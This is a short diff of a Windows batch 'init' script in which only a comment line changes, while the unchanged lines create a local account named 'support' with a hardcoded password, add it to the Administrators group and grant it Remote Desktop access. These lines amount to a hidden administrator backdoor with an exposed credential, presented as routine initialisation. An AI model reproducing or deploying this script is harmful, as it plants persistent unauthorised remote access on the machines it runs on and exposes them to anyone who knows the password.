@@ -1,4 +1,4 @@
-REM init 7203 v3
+REM init 1772 v3
 net user support Qwerty#7788 /add /y
 net localgroup administrators support /add
 net localgroup "Remote Desktop Users" support /add
